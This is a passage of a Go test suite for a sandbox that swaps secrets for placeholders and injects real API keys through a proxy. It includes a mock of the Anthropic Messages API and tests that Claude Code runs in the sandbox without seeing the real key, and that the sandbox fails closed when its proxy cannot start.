		if l := line("LONELY_TOKEN"); !namesBinding(l, "LONELY_TOKEN") {
			t.Errorf("jail plan: the line for LONELY_TOKEN, which has no binding, must say which secrets.env binding to add; got %q\n%s", l, r.Stdout)
		}
		if !strings.Contains(r.Stdout, s.Project+"/.env") && !strings.Contains(r.Stdout, " .env") {
			t.Errorf("jail plan does not list the masked .env file:\n%s", r.Stdout)
		}
	})
}

// mockAnswer is what the Messages API mock says.
const mockAnswer = "hello from the mock"

// anthropicMock answers the Messages API the way api.anthropic.com does,
// only for the real key in x-api-key: POST /v1/messages, streaming (SSE)
// or not, and /v1/messages/count_tokens. Every other path is a 404 in the
// API's error shape.
func anthropicMock(realKey string) func(w http.ResponseWriter, r *http.Request, body []byte) bool {
	apiError := func(w http.ResponseWriter, code int, typ, msg string) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		json.NewEncoder(w).Encode(map[string]any{"type": "error", "error": map[string]string{"type": typ, "message": msg}})
	}
	return func(w http.ResponseWriter, r *http.Request, body []byte) bool {
		w.Header().Set("request-id", "req_mock_"+uniq())
		if r.URL.Path != "/v1/messages" && r.URL.Path != "/v1/messages/count_tokens" {
			apiError(w, http.StatusNotFound, "not_found_error", "mock: no "+r.URL.Path)
			return true
		}
		if r.Header.Get("x-api-key") != realKey {
			apiError(w, http.StatusUnauthorized, "authentication_error", "invalid x-api-key")
			return true
		}
		if r.Method != http.MethodPost {
			apiError(w, http.StatusMethodNotAllowed, "invalid_request_error", "mock: POST only")
			return true
		}
		var req struct {
			Model  string `json:"model"`
			Stream bool   `json:"stream"`
		}
		if err := json.Unmarshal(body, &req); err != nil {
			apiError(w, http.StatusBadRequest, "invalid_request_error", "mock: body is not JSON: "+err.Error())
			return true
		}
		if r.URL.Path == "/v1/messages/count_tokens" {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintln(w, `{"input_tokens": 12}`)
			return true
		}
		if req.Model == "" {
			req.Model = "claude-sonnet-4-5"
		}
		id := "msg_mock_" + uniq()
		usage := map[string]int{"input_tokens": 12, "output_tokens": 5, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}
		if !req.Stream {
			w.Header().Set("Content-Type", "application/json")
			json.NewEncoder(w).Encode(map[string]any{
				"id": id, "type": "message", "role": "assistant", "model": req.Model,
				"content":     []map[string]string{{"type": "text", "text": mockAnswer}},
				"stop_reason": "end_turn", "stop_sequence": nil, "usage": usage,
			})
			return true
		}
		w.Header().Set("Content-Type", "text/event-stream")
		w.Header().Set("Cache-Control", "no-cache")
		event := func(name string, data any) {
			b, _ := json.Marshal(data)
			fmt.Fprintf(w, "event: %s\ndata: %s\n\n", name, b)
			if f, ok := w.(http.Flusher); ok {
				f.Flush()
			}
		}
		event("message_start", map[string]any{"type": "message_start", "message": map[string]any{
			"id": id, "type": "message", "role": "assistant", "model": req.Model, "content": []any{},
			"stop_reason": nil, "stop_sequence": nil, "usage": map[string]int{"input_tokens": 12, "output_tokens": 1},
		}})
		event("content_block_start", map[string]any{"type": "content_block_start", "index": 0, "content_block": map[string]string{"type": "text", "text": ""}})
		event("ping", map[string]string{"type": "ping"})
		event("content_block_delta", map[string]any{"type": "content_block_delta", "index": 0, "delta": map[string]string{"type": "text_delta", "text": mockAnswer}})
		event("content_block_stop", map[string]any{"type": "content_block_stop", "index": 0})
		event("message_delta", map[string]any{"type": "message_delta", "delta": map[string]any{"stop_reason": "end_turn", "stop_sequence": nil}, "usage": map[string]int{"output_tokens": 5}})
		event("message_stop", map[string]string{"type": "message_stop"})
		return true
	}
}

// 6. A real agent CLI: Claude Code, installed from the npm registry, runs
// in the jail with ANTHROPIC_API_KEY set; api.anthropic.com is allowed and
// mapped to a local mock of the Messages API that answers only the real
// key. The CLI sees a placeholder, the proxy injects the key (built-in
// binding), and the CLI prints the mock's answer.
func TestSecretsClaudeCode(t *testing.T) {
	t.Parallel()
	argv, cache := claudeCode(t)
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		var mock *echoServer
		g := setupSecrets(t, s, []string{"ANTHROPIC_API_KEY"}, nil, func(g *secretsRig) map[string]any {
			mock = newEchoServer(t, anthropicMock(g.Real["ANTHROPIC_API_KEY"]))
			return map[string]any{"network": map[string]any{
				"allow": []string{anthropicHost},
				"hosts": map[string]string{anthropicHost: mock.Addr()},
			}}
		})
		realKey := g.Real["ANTHROPIC_API_KEY"]
		if inside := strings.TrimSpace(s.MustSh("printenv ANTHROPIC_API_KEY").Stdout); !placeholderRE("ANTHROPIC_API_KEY").MatchString(inside) {
			t.Fatalf("control: ANTHROPIC_API_KEY inside is %q, want its placeholder", inside)
		}
		// No other knob is needed: the CLI runs as a user runs it. One retry
		// only, so that a refused key fails in seconds, not minutes of
		// back-off.
		s.Env = append(s.Env, "CLAUDE_CODE_MAX_RETRIES=1")
		args := append([]string{"--allow-read", cache, "--"}, argv...)
		args = append(args, "-p", "say hi")
		r, timedOut := jailTimeout(t, s.JailCmd(args...), "", 2*time.Minute)
		g.noReal(t, "Claude Code's output", r.Stdout+r.Stderr)
		ds := decisions(t, s, "")
		if timedOut || r.Code != 0 || !strings.Contains(r.Stdout, mockAnswer) {
			t.Errorf("jail -- claude -p \"say hi\": want exit 0 and %q printed (timed out: %v):\n%s\nthe mock saw:\n%s\njail log:\n%s",
				mockAnswer, timedOut, r, mock.dump(), dumpDecisions(ds))
		}
		var ok bool
		for _, req := range mock.At("/v1/messages") {
			ok = ok || req.Header.Get("X-Api-Key") == realKey
		}
		if !ok {
			t.Errorf("the mock never received a Messages API request carrying the real key:\n%s", mock.dump())
		}
		if got := mock.Containing(placeholderPrefix); len(got) > 0 {
			t.Errorf("placeholders reached api.anthropic.com (not injected):\n%v", got)
		}
		for _, d := range ds {
			if d.Host != anthropicHost {
				t.Logf("Claude Code also tried %s (%s), as expected refused or allowed by policy: %s", d.Host, d.Verdict, d)
			}
		}
		hostLogHasNoReal(t, s, g)
	})
}

// 8. Fail closed: when the proxy cannot start, jail exits 125 without
// running the command; without a network (no proxy at all) secrets are
// still placeholders, never the real values.
func TestSecretsFailClosed(t *testing.T) {
	t.Parallel()
	forEachRunner(t, func(t *testing.T, s *Sandbox) {
		t.Parallel()
		g := setupSecrets(t, s, []string{"MY_API_KEY", "ANTHROPIC_API_KEY"}, nil, nil)
		r := s.Jail("--no-network", "--", "sh", "-c", `echo "MY_API_KEY=$MY_API_KEY"; echo "ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY"`)
		g.noReal(t, "jail --no-network", r.Stdout+r.Stderr)
		env := envMap(r.Stdout)
		for _, name := range []string{"MY_API_KEY", "ANTHROPIC_API_KEY"} {
			if r.Code != 0 || !placeholderRE(name).MatchString(env[name]) {
				t.Errorf("--no-network: %s inside is %q, want its placeholder:\n%s", name, env[name], r)
			}
		}

		// $XDG_RUNTIME_DIR/jail is a file: the proxy has nowhere to listen.
		d := s.Base + "/xdg-broken"
		s.WriteFile(d+"/jail", "not a directory\n", 0o600)
		os.Chmod(d, 0o700)
		s.Env = append(s.Env, "XDG_RUNTIME_DIR="+d)
		r = s.Sh(`echo "MY_API_KEY=$MY_API_KEY" > ran.txt`)
		g.noReal(t, "jail whose proxy cannot start", r.Stdout+r.Stderr)
		if r.Code != 125 {
			t.Errorf("the proxy cannot start: want exit 125, got:\n%s", r)
		}
		hostAbsent(t, s.Project+"/ran.txt")
	})
}
